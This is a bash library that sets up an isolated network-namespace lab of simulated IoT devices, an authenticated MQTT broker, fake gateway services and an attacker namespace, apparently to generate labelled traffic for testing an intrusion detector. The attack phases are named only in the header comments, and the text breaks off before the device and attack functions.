# shellcheck shell=bash
# lab/lib.sh - Vigil's traffic lab in network namespaces, as a bash library.
#
#   set -euo pipefail
#   . lab/lib.sh            # optional overrides before: LAB_PFX, LAB_SUBNET, LAB_DIR, LAB_LIFETIME, LAB_KEEP
#   lab_up                  # preflight, stale cleanup, topology; installs `trap lab_cleanup EXIT` (+ INT, TERM)
#   lab_broker_start; lab_services_start; lab_devices_start
#   lab_attack_scan_syn ... # or lab_attack_all [GAP_SECONDS]; each appends a line to $LAB_DIR/phases.csv
#
# Every function is safe under `set -euo pipefail`. Must run as root (namespaces, raw sockets, tcpdump).
#
# Topology (one bridge, everything inside namespaces created here; nothing is placed in the host namespace):
#   ${LAB_PFX}gw   br0 $LAB_SUBNET.1/24; Mosquitto :1883 (on .1 and on 127.0.0.1 of that namespace),
#                  HTTP :8080, DNS-like UDP :53, NTP-like UDP :123
#   ${LAB_PFX}dN   one namespace per device N in LAB_DEVICES (11 thermostat, 12 camera, 13 plug, 14 hub,
#                  15 meter) and LAB_LATE_DEVICES (16 speaker: silent until lab_device_start 16):
#                  eth0 $LAB_SUBNET.N/24, MAC 02:00:00:00:00:N, veth peer vN on br0
#   ${LAB_PFX}atk  the attacker, $LAB_SUBNET.66 (and the drop site of the exfil / beacon phases)
# No namespace has a default route, so no packet can leave the lab; lab_up asserts it. IPv6 is off and every veth
# has gso_max_segs 1, so captures on br0 hold on-the-wire sized IPv4/ARP frames only.
#
# Traps: lab_up installs `trap lab_cleanup EXIT`, `trap 'exit 130' INT` and `trap 'exit 143' TERM`. A caller that
# needs its own EXIT trap must call lab_cleanup from it (e.g. `trap 'my_stuff; lab_cleanup' EXIT`), after lab_up.
# lab_cleanup is idempotent and keeps the exit status.
#
# State that must survive subshells (started processes, broker and capture PIDs) is kept in files under $LAB_DIR, so
# the functions may be called from `( ... )` too; lab_cleanup also kills every process found in the lab's
# namespaces, whoever started it. $LAB_DIR is removed by lab_cleanup unless LAB_KEEP=1 (a LAB_DIR that existed
# before lab_up is never removed, only the lab's files are left in it); copy phases.csv out before cleanup.
#
# Phase labels ($LAB_DIR/phases.csv, header written by lab_up):
#   phase,attack_type,attacker,victim,start_epoch,end_epoch     (epochs in seconds, millisecond precision)
# attacker is the host that sends the malicious traffic and victim the host it targets. In the exfil and beacon
# phases a compromised device does the sending: attacker = that device's IP, victim = $LAB_ATTACKER_IP, the drop
# site / command server the data goes to. In the spoof phases the attacker sends with a benign device's address
# ($LAB_SPOOFED_IP, the plug) from its own MAC: attacker = $LAB_ATTACKER_IP all the same (the sender, whose MAC
# lab_mac_of gives), and the spoofed address is the one that must never be quarantined.

# ------------------------------------------------------------------ parameters (overridable before sourcing)
: "${LAB_PFX:=vl$$-}"
: "${LAB_SUBNET:=10.88.0}"
: "${LAB_LIFETIME:=3600}"          # upper bound in seconds for every background process the lab starts
: "${LAB_KEEP:=0}"
LAB_MQTT_PORT=1883
LAB_SNAPLEN=256
LAB_DEVICES=(11 12 13 14 15)
# devices attached from the start but silent until lab_device_start: a device type that joins later (e2e with
# LAB_CONTINUAL=1: 16, mid-soak); none unless the caller sets them before sourcing
declare -p LAB_LATE_DEVICES >/dev/null 2>&1 || LAB_LATE_DEVICES=()
declare -gA LAB_DEVICE_NAME=([11]=thermostat-11 [12]=camera-12 [13]=plug-13 [14]=hub-14 [15]=meter-15
  [16]=speaker-16)
declare -gA LAB_DEVICE_PASSWORD=()
LAB_VIGIL_MQTT_USER=vigil
LAB_VIGIL_MQTT_PASSWORD=${LAB_VIGIL_MQTT_PASSWORD:-}
LAB_NS_GW="${LAB_PFX}gw"
LAB_NS_ATK="${LAB_PFX}atk"
LAB_GW_IP="$LAB_SUBNET.1"
LAB_ATTACKER_IP="$LAB_SUBNET.66"
LAB_SPOOFED_IP="$LAB_SUBNET.13" # the plug: the spoof phases send with its address
LAB_PIDS=()
_LAB_UP=0
_LAB_OWN_DIR=0
_LAB_STATE=/run/vigil-lab
_LAB_PHASES_HEADER="phase,attack_type,attacker,victim,start_epoch,end_epoch"

_lab_log() { printf '[lab %(%H:%M:%S)T] %s\n' -1 "$*" >&2; }
_lab_die() {
  _lab_log "ERROR: $*"
  exit 1
}
_lab_now() { date +%s.%3N; }

# lab_ns_of_device N: the namespace of device N (a last octet from LAB_DEVICES).
lab_ns_of_device() { printf '%s\n' "${LAB_PFX}d$1"; }

_lab_namespaces() {
  local d
  printf '%s\n' "$LAB_NS_GW"
  for d in "${LAB_DEVICES[@]}"; do lab_ns_of_device "$d"; done
  printf '%s\n' "$LAB_NS_ATK"
}

# _lab_track PID: remember a process for lab_cleanup (in the array and in $LAB_DIR/pids, for subshells).
_lab_track() {
  LAB_PIDS+=("$1")
  printf '%s\n' "$1" >>"$LAB_DIR/pids"
}

# _lab_bg NS NAME SECONDS CMD...: start CMD in NS under `timeout SECONDS`, log to $LAB_DIR/NAME.log; sets _LAB_BG_PID.
_lab_bg() {
  local ns=$1 name=$2 secs=$3
  shift 3
  ip netns exec "$ns" timeout -k 5 "$secs" "$@" >>"$LAB_DIR/$name.log" 2>&1 &
  _LAB_BG_PID=$!
  _lab_track "$_LAB_BG_PID"
}

# _lab_run NS SECONDS CMD...: run CMD in NS under `timeout SECONDS` and wait for it (a trapped signal interrupts the
# wait at once, so Ctrl-C is not delayed by a running attack). Returns CMD's status.
_lab_run() {
  local ns=$1 secs=$2 pid rc=0
  shift 2
  ip netns exec "$ns" timeout -k 3 "$secs" "$@" &
  pid=$!
  _lab_track "$pid"
  wait "$pid" || rc=$?
  return "$rc"
}

# _lab_sleep SECONDS: an interruptible sleep.
_lab_sleep() {
  local pid
  sleep "$1" &
  pid=$!
  wait "$pid" || true
}

# _lab_wait_port NS tcp|udp PORT [TRIES]: wait (0.2 s steps, bounded) until something listens on PORT in NS.
_lab_wait_port() {
  local ns=$1 proto=$2 port=$3 tries=${4:-50} i
  for ((i = 0; i < tries; i++)); do
    if ip netns exec "$ns" ss -Hln"${proto:0:1}" "sport = :$port" 2>/dev/null | grep -c . >/dev/null; then return 0; fi
    sleep 0.2
  done
  _lab_die "nothing listens on $proto/$port in $ns after $((tries / 5)) s (see $LAB_DIR/*.log)"
}

_lab_python() {
  if [[ -x /usr/bin/python3 ]]; then LAB_PY=/usr/bin/python3; else LAB_PY=$(command -v python3); fi
}

# ------------------------------------------------------------------ preflight, stale cleanup
_lab_preflight() {
  [[ $EUID -eq 0 ]] || _lab_die "the lab must run as root (network namespaces, raw sockets, tcpdump)"
  local t missing=()
  for t in ip tcpdump nmap hping3 mosquitto mosquitto_pub mosquitto_sub mosquitto_passwd python3 nc curl \
    timeout ss ping date awk; do
    command -v "$t" >/dev/null 2>&1 || missing+=("$t")
  done
  ((${#missing[@]} == 0)) || _lab_die "missing tools: ${missing[*]} (Debian: apt-get install iproute2 tcpdump nmap" \
    "hping3 mosquitto mosquitto-clients python3 netcat-openbsd curl iputils-ping)"
  [[ $LAB_PFX =~ ^[a-z][a-z0-9]*-$ ]] || _lab_die "LAB_PFX must look like 'abc123-' (got '$LAB_PFX')"
  ((${#LAB_PFX} <= 10)) || _lab_die "LAB_PFX '$LAB_PFX' is too long (at most 10 characters)"
  [[ $LAB_SUBNET =~ ^[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}$ ]] || _lab_die "LAB_SUBNET must be like 10.88.0"
  [[ $LAB_LIFETIME =~ ^[0-9]+$ ]] || _lab_die "LAB_LIFETIME must be whole seconds"
}

# Namespaces of earlier labs whose owner is gone: names vl<PID>-(gw|atk|dN) (the default prefix), or names under a
# prefix whose owner file /run/vigil-lab/<prefix>owner names a dead PID; then the work dirs (mktemp'd by lab_up) that
# those owner files name. Nothing else is touched.
_lab_stale_cleanup() {
  local ns owner pfx f
  mkdir -p "$_LAB_STATE"
  while read -r ns _; do
    owner=
    if [[ $ns =~ ^vl([0-9]+)-(gw|atk|d[0-9]+)$ ]]; then
      owner=${BASH_REMATCH[1]}
    elif [[ $ns =~ ^([a-z][a-z0-9]*-)(gw|atk|d[0-9]+)$ ]] && [[ -f $_LAB_STATE/${BASH_REMATCH[1]}owner ]]; then
      owner=$(head -n1 "$_LAB_STATE/${BASH_REMATCH[1]}owner" 2>/dev/null || true)
    fi
    [[ $owner =~ ^[0-9]+$ ]] || continue
    if [[ $ns == "$LAB_PFX"* ]] && [[ $owner != "$$" ]] && kill -0 "$owner" 2>/dev/null; then
      _lab_die "namespace $ns exists and its owner PID $owner is alive: choose another LAB_PFX"
    fi
    [[ $owner == "$$" ]] && _lab_die "namespace $ns exists already: lab_up called twice without lab_cleanup?"
    kill -0 "$owner" 2>/dev/null && continue
    _lab_log "removing stale namespace $ns (owner PID $owner gone)"
    for f in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$f" 2>/dev/null || true; done
    ip netns del "$ns" 2>/dev/null || true
  done < <(ip netns list 2>/dev/null)
  # owner files of dead owners: their namespaces are gone now; remove the file and the work dir lab_up made
  for f in "$_LAB_STATE"/*-owner; do
    [[ -f $f ]] || continue
    owner=$(sed -n 1p "$f" 2>/dev/null || true)
    pfx=$(basename "$f" owner)
    [[ $owner =~ ^[0-9]+$ ]] && kill -0 "$owner" 2>/dev/null && continue
    if ip netns list 2>/dev/null | grep -c "^${pfx}" >/dev/null; then continue; fi
    ns=$(sed -n 2p "$f" 2>/dev/null || true)
    if [[ $(sed -n 3p "$f" 2>/dev/null || true) == own && $ns == /tmp/vigil-lab.* && -d $ns ]]; then
      _lab_log "removing stale work dir $ns (owner PID $owner gone)"
      rm -rf "$ns"
    fi
    rm -f "$f"
  done
}

# ------------------------------------------------------------------ helper programs (written into $LAB_DIR)
_lab_write_helpers() {
  cat >"$LAB_DIR/svc.py" <<'PY'
# Small lab services. svc.py MODE HOST PORT LIFETIME
#   http   GET: generated JSON / firmware-like bytes; POST/PUT: reads the body (Content-Length), answers 204
#   dns    answers any A query with HOST
#   ntp    answers 48-byte NTP-like requests (mode 3) with mode 4 and the current time
#   banner TCP banner (telnet/RTSP/HTTP-like), reads a little, closes
import http.server, socket, socketserver, struct, sys, threading, time
mode, host, port, lifetime = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
deadline = time.monotonic() + lifetime
NTP_EPOCH = 2208988800

def dns_reply(d):
    qid, = struct.unpack("!H", d[:2])
    i = 12
    while i < len(d) and d[i] != 0:
        i += d[i] + 1
    q = d[12:i + 5]
    return struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + q + \
        struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + socket.inet_aton(host)

def ntp_reply(d):
    now = time.time() + NTP_EPOCH
    sec, frac = int(now), int((now % 1) * 2**32)
    return struct.pack("!BBBb11I", 0x24, 2, d[2] if len(d) > 2 else 6, -20, 0, 0, 0x7f000001,
                       sec, frac, *struct.unpack("!II", d[40:48]) if len(d) >= 48 else (0, 0), sec, frac, sec, frac)

class Http(http.server.BaseHTTPRequestHandler):
    server_version = "lab-gw/1.0"
    def log_message(self, *a):
        pass
    def do_GET(self):
        n = 256
        if "/fw/" in self.path:
            n = 16384
        elif "/cam/" in self.path:
            n = 4096
        body = (('{"path":"%s","t":%d,"pad":"' % (self.path[:60], int(time.time()))) + "x" * n + '"}\n').encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def do_POST(self):
        left = int(self.headers.get("Content-Length", "0") or 0)
        while left > 0:
            chunk = self.rfile.read(min(65536, left))
            if not chunk:
                break
            left -= len(chunk)
        self.send_response(204)
        self.send_header("Content-Length", "0")
        self.end_headers()
    do_PUT = do_POST

class Banner(socketserver.BaseRequestHandler):
    def handle(self):
        try:
            self.request.settimeout(3)
            self.request.sendall(b"\r\nBusyBox v1.31 built-in shell\r\nlogin: ")
            self.request.recv(64)
        except OSError:
            pass

class Srv(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True

class HttpSrv(http.server.ThreadingHTTPServer):
    allow_reuse_address = True
    daemon_threads = True

if mode in ("dns", "ntp"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port))
    s.settimeout(1.0)
    f = dns_reply if mode == "dns" else ntp_reply
    while time.monotonic() < deadline:
        try:
            d, a = s.recvfrom(2048)
            s.sendto(f(d), a)
        except (socket.timeout, struct.error, IndexError):
            continue
    sys.exit(0)
srv = (HttpSrv if mode == "http" else Srv)((host, port), Http if mode == "http" else Banner)
threading.Thread(target=srv.serve_forever, daemon=True).start()
while time.monotonic() < deadline:
    time.sleep(0.5)
srv.shutdown()
PY

  cat >"$LAB_DIR/device.py" <<'PY'
# One lab device. device.py NAME KIND MY_IP GW_IP PORT USER PASSWORD LIFETIME SEED
# Telemetry: JSON lines (with "ts" in epoch ms) written into ONE long-lived `mosquitto_pub -l -q 1` (one persistent
# MQTT connection; mosquitto_pub reconnects by itself after a broker restart; if it exits anyway it is started
# again, a bounded number of times). Chatter: DNS-like and NTP-like UDP and HTTP GETs (curl) to the gateway.
# Every loop is bounded by a count and by LIFETIME.
import json, math, random, socket, struct, subprocess, sys, threading, time
name, kind, my_ip, gw, port, user, password = sys.argv[1:8]
lifetime, seed = float(sys.argv[8]), int(sys.argv[9])
deadline = time.monotonic() + lifetime
rnd = random.Random(seed)
PERIOD = {"thermostat": 2.0, "camera": 5.0, "plug": 5.0, "hub": 10.0, "meter": 1.0, "speaker": 3.0}[kind]
MAX_RESTARTS = 50

def log(*a):
    print(time.strftime("%H:%M:%S"), name, *a, file=sys.stderr, flush=True)

class State:
    t0 = time.time()
    energy = rnd.uniform(1000, 2000)
    relay = True
    batteries = [rnd.uniform(60, 100) for _ in range(4)]
    frames = 0

def reading(i):
    now = time.time()
    t = now - State.t0
    r = {"ts": int(now * 1000), "device": name, "seq": i}
    if kind == "thermostat":
        r["temp_c"] = round(21.0 + 1.5 * math.sin(2 * math.pi * t / 900) + t / 7200 + rnd.gauss(0, 0.05), 2)
        r["humidity"] = round(45.0 + 4 * math.sin(2 * math.pi * t / 1300 + 1) + rnd.gauss(0, 0.3), 1)
        r["setpoint_c"] = 21.5
    elif kind == "camera":
        r["fps"] = round(15 + rnd.gauss(0, 0.3), 1)
        r["bitrate_kbps"] = int(1800 + 150 * math.sin(t / 60) + rnd.gauss(0, 40))
        r["motion"] = rnd.random() < 0.05
    elif kind == "plug":
        if rnd.random() < 0.02:
            State.relay = not State.relay
        r["relay"] = "on" if State.relay else "off"
        r["power_w"] = round(rnd.gauss(41.5, 1.2) if State.relay else rnd.uniform(0.2, 0.4), 1)
    elif kind == "hub":
        State.batteries = [max(0.0, b - rnd.uniform(0, 0.01)) for b in State.batteries]
        r["batteries"] = {"sensor-%d" % k: round(b, 2) for k, b in enumerate(State.batteries)}
        r["zigbee_rssi"] = int(rnd.gauss(-62, 3))
    elif kind == "speaker":
        r["playing"] = (int(t) // 120) % 2 == 0
        r["volume"] = 30 + 5 * ((int(t) // 120) % 3)
        r["wifi_rssi"] = int(rnd.gauss(-55, 2))
    elif kind == "meter":
        p = 350 + 120 * (1 if (int(t) // 97) % 3 == 0 else 0) + 40 * math.sin(t / 45) + rnd.gauss(0, 5)
        State.energy += p / 3600 / 1000
        r["power_w"] = round(p, 1)
        r["voltage_v"] = round(rnd.gauss(230, 0.8), 1)
        r["energy_kwh"] = round(State.energy, 4)
    return json.dumps(r, separators=(",", ":"))

def pub_proc():
    return subprocess.Popen(["mosquitto_pub", "-h", gw, "-p", port, "-u", user, "-P", password, "-i", name,
                             "-k", "20", "-q", "1", "-t", "devices/%s/telemetry" % name, "-l"],
                            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=sys.stderr)

def telemetry():
    p, restarts = pub_proc(), 0
    n = int(lifetime / PERIOD) + 2
    time.sleep(rnd.uniform(0, PERIOD))
    for i in range(n):
        if time.monotonic() >= deadline:
            break
        if p.poll() is not None:
            if restarts >= MAX_RESTARTS:
                log("mosquitto_pub keeps exiting; telemetry stops")
                return
            restarts += 1
            log("mosquitto_pub exited (%s); starting it again (%d)" % (p.returncode, restarts))
            time.sleep(1)
            p = pub_proc()
        try:
            p.stdin.write((reading(i) + "\n").encode())
            p.stdin.flush()
        except (BrokenPipeError, OSError):
            pass
        time.sleep(max(0.0, min(PERIOD * rnd.uniform(0.97, 1.03), deadline - time.monotonic())))
    try:
        p.stdin.close()
        p.wait(timeout=5)
    except Exception:
        p.kill()

def udp(port_, payload):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.0)
    try:
        s.sendto(payload, (gw, port_))
        s.recvfrom(2048)
    finally:
        s.close()

def dns(_i):
    host = {"thermostat": "api.thermo-cloud.lan", "camera": "stream.camvendor.lan", "plug": "cloud.plugvendor.lan",
            "hub": "hub.zigbee-vendor.lan", "meter": "upload.utility.lan", "speaker": "cast.speakervendor.lan"}[kind]
    q = struct.pack("!HHHHHH", rnd.getrandbits(16), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in host.split(".")) + b"\x00" + struct.pack("!HH", 1, 1)
    udp(53, q)

def ntp(_i):
    now = time.time() + 2208988800
    udp(123, struct.pack("!B47x", 0x23)[:40] + struct.pack("!II", int(now), int((now % 1) * 2**32)))

def http(i):
    path = {"thermostat": "/api/schedule.json", "camera": "/cam/config.json", "plug": "/api/state.json",
            "hub": "/fw/manifest.json", "meter": "/api/tariff.json", "speaker": "/cast/queue.json"}[kind]
    subprocess.run(["curl", "-s", "-o", "/dev/null", "--noproxy", "*", "-m", "5", "-A", kind + "-fw/2.1",
                    "http://%s:8080%s?n=%d" % (gw, path, i)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                   timeout=10)

def every(period, fn):
    def run():
        time.sleep(rnd.uniform(0, period))
        for i in range(int(lifetime / period) + 2):
            if time.monotonic() >= deadline:
                return
            try:
                fn(i)
            except Exception:
                pass
            time.sleep(max(0.0, min(period * rnd.uniform(0.8, 1.2), deadline - time.monotonic())))
    t = threading.Thread(target=run, daemon=True)
    t.start()
    return t

threads = [every(20.0, dns), every(30.0, ntp),
           every({"camera": 10.0, "hub": 30.0, "speaker": 6.0}.get(kind, 15.0), http)]
telemetry()
for t in threads:
    t.join(timeout=max(0.0, deadline - time.monotonic()) + 12)
PY
}

# ------------------------------------------------------------------ topology
_lab_mkns() {
  ip netns add "$1"
  printf '%s\n' "$1" >>"$LAB_DIR/namespaces"
  ip -n "$1" link set lo up
  ip netns exec "$1" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1 \
    >/dev/null 2>&1 || true
}

_lab_attach() { # NS LAST_OCTET
  local ns=$1 n=$2
  _lab_mkns "$ns"
  ip -n "$LAB_NS_GW" link add "v$n" address "02:00:00:00:01:$n" type veth \
    peer name eth0 address "02:00:00:00:00:$n" netns "$ns"
  ip -n "$LAB_NS_GW" link set "v$n" gso_max_segs 1 master br0 up
  ip -n "$ns" link set eth0 gso_max_segs 1 up
  ip -n "$ns" addr add "$LAB_SUBNET.$n/24" dev eth0
}

# lab_assert_contained: no default route in any lab namespace, no lab interface in the host namespace.
lab_assert_contained() {
  local ns d
  while read -r ns; do
    if ip -n "$ns" route show default 2>/dev/null | grep -c . >/dev/null; then _lab_die "default route in $ns"; fi
    if ip -n "$ns" -6 route show default 2>/dev/null | grep -c . >/dev/null; then _lab_die "IPv6 default route in $ns"; fi
  done < <(_lab_namespaces)
  for d in "${LAB_DEVICES[@]}" "${LAB_LATE_DEVICES[@]}" 66; do
    if ip link show "v$d" >/dev/null 2>&1 && ip -d link show "v$d" 2>/dev/null | grep -c "02:00:00:00:01:$d" >/dev/null; then
      _lab_die "lab interface v$d found in the host namespace"
    fi
  done
  if ip -4 addr show 2>/dev/null | grep -c "inet $LAB_SUBNET\." >/dev/null; then
    _lab_die "an address of $LAB_SUBNET.0/24 is configured in the host namespace"
  fi
}

lab_up() {
  ((_LAB_UP == 0)) || _lab_die "lab_up: the lab is up already"
  _lab_preflight
  _lab_python
  LAB_NS_GW="${LAB_PFX}gw"
  LAB_NS_ATK="${LAB_PFX}atk"
  LAB_GW_IP="$LAB_SUBNET.1"
  LAB_ATTACKER_IP="$LAB_SUBNET.66"
  if [[ -z ${LAB_DIR:-} ]]; then
    LAB_DIR=$(mktemp -d /tmp/vigil-lab.XXXXXX)
    _LAB_OWN_DIR=1
  elif [[ ! -d $LAB_DIR ]]; then
    mkdir -p "$LAB_DIR"
    _LAB_OWN_DIR=1
  fi
  LAB_DIR=$(cd "$LAB_DIR" && pwd)
  : >"$LAB_DIR/pids"
  : >"$LAB_DIR/namespaces"
  _lab_stale_cleanup
  printf '%s\n%s\n%s\n' "$$" "$LAB_DIR" "$( ((_LAB_OWN_DIR)) && echo own || echo given)" \
    >"$_LAB_STATE/${LAB_PFX}owner"
  _LAB_UP=1
  trap lab_cleanup EXIT
  trap 'exit 130' INT
  trap 'exit 143' TERM
  printf '%s\n' "$_LAB_PHASES_HEADER" >"$LAB_DIR/phases.csv"
  _lab_write_helpers

  _lab_log "creating lab namespaces ${LAB_PFX}* on $LAB_SUBNET.0/24 (work dir $LAB_DIR)"
  _lab_mkns "$LAB_NS_GW"
  ip -n "$LAB_NS_GW" link add br0 type bridge forward_delay 0 stp_state 0
  ip -n "$LAB_NS_GW" link set br0 address 02:00:00:00:00:01
  ip -n "$LAB_NS_GW" addr add "$LAB_GW_IP/24" dev br0
  local d
  for d in "${LAB_DEVICES[@]}" "${LAB_LATE_DEVICES[@]}"; do _lab_attach "$(lab_ns_of_device "$d")" "$d"; done
  _lab_attach "$LAB_NS_ATK" 66
  ip -n "$LAB_NS_GW" link set br0 gso_max_segs 1 up
  lab_assert_contained
  # the bridge forwards at once (no STP, forward delay 0); one bounded check that it does
  for ((d = 0; d < 20; d++)); do
    if lab_ping "$LAB_NS_ATK" "$LAB_GW_IP" >/dev/null 2>&1; then break; fi
    sleep 0.25
  done
  ((d < 20)) || _lab_die "the attacker namespace cannot reach $LAB_GW_IP over br0"
  while read -r d; do ip -n "$d" neigh flush all 2>/dev/null || true; done < <(_lab_namespaces)
  export LAB_PFX LAB_SUBNET LAB_DIR LAB_NS_GW LAB_NS_ATK LAB_GW_IP LAB_ATTACKER_IP LAB_MQTT_PORT LAB_LIFETIME
  _lab_accounts
  export LAB_VIGIL_MQTT_USER LAB_VIGIL_MQTT_PASSWORD
}

# ------------------------------------------------------------------ cleanup
lab_cleanup() {
  local rc=$? flags=$- ns p pids=() i
  set +e
  if ((_LAB_UP == 0)) && [[ ! -s ${LAB_DIR:-/nonexistent}/namespaces ]]; then
    [[ $flags == *e* ]] && set -e
    return "$rc"
  fi
  _LAB_UP=0
  lab_capture_stop >/dev/null 2>&1
  if [[ -n ${LAB_DIR:-} && -f $LAB_DIR/pids ]]; then mapfile -t pids <"$LAB_DIR/pids"; fi
  pids+=("${LAB_PIDS[@]}")
  local nss=()
  if [[ -n ${LAB_DIR:-} && -f $LAB_DIR/namespaces ]]; then mapfile -t nss <"$LAB_DIR/namespaces"; fi
  for p in "${pids[@]}"; do kill -TERM "$p" 2>/dev/null; done
  for ns in "${nss[@]}"; do
    for p in $(ip netns pids "$ns" 2>/dev/null); do kill -TERM "$p" 2>/dev/null; done
  done
  for ((i = 0; i < 20; i++)); do # up to 2 s for a clean exit
    local alive=0
    for ns in "${nss[@]}"; do [[ -n $(ip netns pids "$ns" 2>/dev/null) ]] && alive=1; done
    for p in "${pids[@]}"; do kill -0 "$p" 2>/dev/null && alive=1; done
    ((alive)) || break
    sleep 0.1
  done
  for p in "${pids[@]}"; do kill -KILL "$p" 2>/dev/null; done
  for ns in "${nss[@]}"; do
    for p in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$p" 2>/dev/null; done
  done
  for p in "${LAB_PIDS[@]}"; do wait "$p" 2>/dev/null; done
  for ns in "${nss[@]}"; do ip netns del "$ns" 2>/dev/null; done
  LAB_PIDS=()
  rm -f "$_LAB_STATE/${LAB_PFX}owner"
  if [[ -n ${LAB_DIR:-} && -d $LAB_DIR ]]; then
    : >"$LAB_DIR/namespaces"
    : >"$LAB_DIR/pids"
    if [[ $LAB_KEEP == 1 ]]; then
      _lab_log "lab torn down; kept $LAB_DIR"
    elif ((_LAB_OWN_DIR)); then
      rm -rf "$LAB_DIR"
    else
      rm -f "$LAB_DIR"/{pids,namespaces,svc.py,device.py,capture.pid,broker.pid,device-pids}
    fi
  fi
  ((rc == 0 || rc == 130 || rc == 143)) || _lab_log "lab torn down after exit status $rc"
  [[ $flags == *e* ]] && set -e
  return "$rc"
}

# ------------------------------------------------------------------ MQTT broker
_lab_secret() { LC_ALL=C tr -dc 'A-Za-z0-9' </dev/urandom | head -c 20 || true; }

_lab_accounts() {
  local d name pw acl=$LAB_DIR/mosquitto.acl pwf=$LAB_DIR/mosquitto.passwd
  : "${LAB_VIGIL_MQTT_PASSWORD:=$(_lab_secret)}"
  : >"$pwf"
  chmod 600 "$pwf"
  mosquitto_passwd -b "$pwf" "$LAB_VIGIL_MQTT_USER" "$LAB_VIGIL_MQTT_PASSWORD"
  printf '# vigil: read-only subscriber\nuser %s\ntopic read devices/#\n' "$LAB_VIGIL_MQTT_USER" >"$acl"
  for d in "${LAB_DEVICES[@]}" "${LAB_LATE_DEVICES[@]}"; do
    name=${LAB_DEVICE_NAME[$d]}
    pw=$(_lab_secret)
    LAB_DEVICE_PASSWORD[$d]=$pw
    mosquitto_passwd -b "$pwf" "$name" "$pw"
    printf '%s %s\n' "$name" "$pw" >>"$LAB_DIR/device-credentials"
    printf '\nuser %s\ntopic write devices/%s/telemetry\n' "$name" "$name" >>"$acl"
  done
  chmod 600 "$LAB_DIR/device-credentials"
  cat >"$LAB_DIR/mosquitto.conf" <<EOF
# Vigil lab broker (generated by lab/lib.sh)
user root
per_listener_settings false
allow_anonymous false
password_file $pwf
acl_file $acl
persistence false
log_dest stderr
log_type error
log_type warning
log_type notice
connection_messages true
listener $LAB_MQTT_PORT $LAB_GW_IP
listener $LAB_MQTT_PORT 127.0.0.1
EOF
}

# _lab_broker_ready: bounded wait until the broker accepts the vigil account on both listeners.
_lab_broker_ready() {
  local i h
  for h in 127.0.0.1 "$LAB_GW_IP"; do
    for ((i = 0; i < 40; i++)); do
      if ip netns exec "$LAB_NS_GW" timeout 3 mosquitto_sub -h "$h" -p "$LAB_MQTT_PORT" \
        -u "$LAB_VIGIL_MQTT_USER" -P "$LAB_VIGIL_MQTT_PASSWORD" -t 'devices/#' -E -W 2 >/dev/null 2>&1; then
        break
      fi
      sleep 0.25
    done
    ((i < 40)) || _lab_die "the broker does not accept connections on $h:$LAB_MQTT_PORT (see $LAB_DIR/mosquitto.log)"
  done
}

lab_broker_start() {
  if [[ -s $LAB_DIR/broker.pid ]] && kill -0 "$(cat "$LAB_DIR/broker.pid")" 2>/dev/null; then
    _lab_log "broker already running"
    return 0
  fi
  _lab_bg "$LAB_NS_GW" mosquitto "$LAB_LIFETIME" mosquitto -c "$LAB_DIR/mosquitto.conf"
  printf '%s\n' "$_LAB_BG_PID" >"$LAB_DIR/broker.pid"
  _lab_broker_ready
  _lab_log "broker up on $LAB_GW_IP:$LAB_MQTT_PORT and 127.0.0.1:$LAB_MQTT_PORT in $LAB_NS_GW"
}

lab_broker_stop() {
  local pid i
  [[ -s $LAB_DIR/broker.pid ]] || return 0
  pid=$(cat "$LAB_DIR/broker.pid")
  kill -TERM "$pid" 2>/dev/null || true
  for ((i = 0; i < 50; i++)); do
    kill -0 "$pid" 2>/dev/null || break
    sleep 0.1
  done
  kill -KILL "$pid" 2>/dev/null || true
  wait "$pid" 2>/dev/null || true
  for ((i = 0; i < 50; i++)); do
    ip netns exec "$LAB_NS_GW" ss -Hltn "sport = :$LAB_MQTT_PORT" 2>/dev/null | grep -c . >/dev/null || break
    sleep 0.1
  done
  rm -f "$LAB_DIR/broker.pid"
  _lab_log "broker stopped"
}

lab_broker_restart() {
  lab_broker_stop
  lab_broker_start
}

# ------------------------------------------------------------------ services
lab_services_start() {
  _lab_bg "$LAB_NS_GW" http "$LAB_LIFETIME" "$LAB_PY" "$LAB_DIR/svc.py" http "$LAB_GW_IP" 8080 "$LAB_LIFETIME"
  _lab_bg "$LAB_NS_GW" dns "$LAB_LIFETIME" "$LAB_PY" "$LAB_DIR/svc.py" dns "$LAB_GW_IP" 53 "$LAB_LIFETIME"
  _lab_bg "$LAB_NS_GW" ntp "$LAB_LIFETIME" "$LAB_PY" "$LAB_DIR/svc.py" ntp "$LAB_GW_IP" 123 "$LAB_LIFETIME"
  local cam hub
  cam=$(lab_ns_of_device 12)
  hub=$(lab_ns_of_device 14)
  _lab_bg "$cam" cam80 "$LAB_LIFETIME" "$LAB_PY" "$LAB_DIR/svc.py" http "$LAB_SUBNET.12" 80 "$LAB_LIFETIME"
  _lab_bg "$cam" cam554 "$LAB_LIFETIME" "$LAB_PY" "$LAB_DIR/svc.py" banner "$LAB_SUBNET.12" 554 "$LAB_LIFETIME"
  _lab_bg "$hub" hub23 "$LAB_LIFETIME" "$LAB_PY" "$LAB_DIR/svc.py" banner "$LAB_SUBNET.14" 23 "$LAB_LIFETIME"
  _lab_wait_port "$LAB_NS_GW" tcp 8080
  _lab_wait_port "$LAB_NS_GW" udp 53
  _lab_wait_port "$LAB_NS_GW" udp 123
  _lab_wait_port "$cam" tcp 80
  _lab_wait_port "$cam" tcp 554
  _lab_wait_port "$hub" tcp 23
  _lab_log "services up: gw http:8080 dns:53 ntp:123; camera 80 554; hub 23"
}

# ------------------------------------------------------------------ devices
lab_devices_start() {
  local d
